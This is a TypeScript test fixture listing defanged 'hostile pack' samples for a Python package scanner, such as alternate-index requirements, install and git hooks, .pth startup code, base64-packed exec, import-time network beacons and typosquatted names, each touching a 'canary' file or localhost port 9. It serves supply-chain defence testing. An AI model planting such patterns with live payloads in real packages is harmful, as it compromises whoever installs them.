import type { CodeFact } from '../../pack-facts.js'

/**
 * Packs that try something, made harmless: what would be harm touches a file `canary` or connects to port 9 of this machine, and nothing here is
 * ever run. `line`: where the fact must point; null: at the file as a whole.
 */
export interface HostilePack {
  readonly name: string
  readonly texts: Readonly<Record<string, string>>
  readonly others?: readonly { readonly path: string; readonly size: number; readonly head: Uint8Array }[]
  readonly kind: CodeFact['kind']
  readonly file: string
  readonly line: number | null
}

const touch = 'open("canary", "w").close()\n'
const asks = (name: string, text: string, line = 1): HostilePack => ({ name, texts: { 'requirements.txt': text, '__init__.py': '' }, kind: 'risky-requirement', file: 'requirements.txt', line })
const code = (name: string, kind: CodeFact['kind'], line: number, text: string, file = '__init__.py'): HostilePack => ({ name, texts: { [file]: text }, kind, file, line })
const holds = (name: string, kind: CodeFact['kind'], path: string, head: readonly number[]): HostilePack => ({ name, texts: { '__init__.py': '' }, others: [{ path, size: 4096, head: new Uint8Array(head) }], kind, file: path, line: null })

export const hostilePacks: readonly HostilePack[] = [
  asks('index-url', 'numpy\r\n--index-url http://127.0.0.1:9/simple\r\n', 2),
  asks('extra-index-url', '--extra-index-url http://127.0.0.1:9/simple\nnumpy'),
  asks('find-links', 'numpy\n\n-f http://127.0.0.1:9/links\n', 3),
  asks('trusted-host', '--trusted-host 127.0.0.1'),
  asks('requirements outside', '-r ../../../canary.txt'),
  asks('editable', '-e ./src'),
  asks('git', 'git+http://127.0.0.1:9/canary.git'),
  asks('wheel', 'http://127.0.0.1:9/canary-1.0-py3-none-any.whl'),
  asks('file', 'file:///canary.whl'),
  asks('name at address', 'openai @ http://127.0.0.1:9/openai-9.whl'),
  asks('hidden by a marker', 'numpy\ncanary @ http://127.0.0.1:9/c.whl ; python_version < "2.0"', 2),
  asks('unknown option', '--use-feature=canary'),
  { name: 'install.py', texts: { 'install.py': touch }, kind: 'install-script', file: 'install.py', line: null },
  { name: 'set-up hook', texts: { 'setup.py': `from setuptools import setup\nclass Build: pass\nsetup(\n  cmdclass={"build_py": Build})\n` }, kind: 'install-script', file: 'setup.py', line: 4 },
  { name: 'build of its own', texts: { 'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "canary"\nbackend-path = ["."]\n' }, kind: 'install-script', file: 'pyproject.toml', line: 4 },
  { name: 'pth', texts: { 'canary.pth': `import os; ${touch}` }, kind: 'at-python-start', file: 'canary.pth', line: 1 },
  { name: 'sitecustomize', texts: { 'lib/sitecustomize.py': touch }, kind: 'at-python-start', file: 'lib/sitecustomize.py', line: null },
  { name: 'git hook', texts: { '.githooks/post-checkout': '#!/bin/sh\ntouch canary\n' }, kind: 'starts-programs', file: '.githooks/post-checkout', line: null },
  { name: 'submodule', texts: { '.gitmodules': '[submodule "x"]\r\n\tpath = x\r\n\turl = file:///canary\r\n' }, kind: 'risky-requirement', file: '.gitmodules', line: 3 },
  { name: 'one file under two names', texts: { 'nodes.py': '', 'Nodes.py': touch }, kind: 'obfuscated', file: 'nodes.py', line: null },
  holds('pickle', 'pickle-file', 'weights/модель.bin', [0x80, 0x02, 0x63]),
  holds('program', 'native-binary', 'bin/canary', [0x7f, 0x45, 0x4c, 0x46]),
  holds('compiled', 'obfuscated', 'nodes.pyc', [0xcb, 0x0d, 0x0d, 0x0a]),
  asks('look-alike', 'reqeusts>=2'),
  asks('torch downgrade', 'numpy\ntorch==1.13.1\n', 2),
  { ...asks('known release', 'ultralytics==8.3.41'), kind: 'known-bad' },
  code('packed', 'obfuscated', 2, 'import base64\nexec(base64.b64decode("b3BlbigiY2FuYXJ5IiwgInciKQ=="))\n'),
  code('runs text', 'runs-text', 2, 'x = 1\neval("open(\'canary\', \'w\')")\n'),
  code('runs text, elsewhere', 'runs-text', 2, 'import builtins as b\r\nb.exec("1")\r\n', 'nodes/größe.py'),
  code('installs', 'installs-by-itself', 3, 'import subprocess as sp, sys\n\nsp.run([sys.executable, "-m", "pip",\n  "install", "canary"])\n'),
  code('installs in two steps', 'installs-by-itself', 2, 'from subprocess import check_call as go\ncmd = f"pip install {name}"\ngo(cmd, shell=True)\n'),
  code('starts', 'starts-programs', 3, '"""os.system("no")"""\n# os.system("no")\n__import__("os").system("touch canary")\n'),
  code('beacon', 'network-at-import', 4, 'import urllib.request as u\ndef beacon():\n    u.urlopen("http://127.0.0.1:9/")\nbeacon()\n'),
  code('beacon by a thread', 'network-at-import', 5, 'import socket, threading\ndef a():\n    socket.create_connection(("127.0.0.1", 9))\ndef b(): a()\nthreading.Thread(target=b).start()\n'),
  code('plants a start', 'at-python-start', 2, 'import site\nopen(site.getsitepackages()[0] + "/canary.pth", "w")\n'),
  code('forged wheel', 'known-bad', 2, 'import os\nos.system("pip install http://127.0.0.1:9/openai-1.16.3-py3-none-any.whl")\n', 'setup_tools.py'),
  { name: 'page', texts: { 'web/js/x.js': '// eval(atob("x"))\neval(atob("MQ=="))\n' }, kind: 'obfuscated', file: 'web/js/x.js', line: 2 },
]
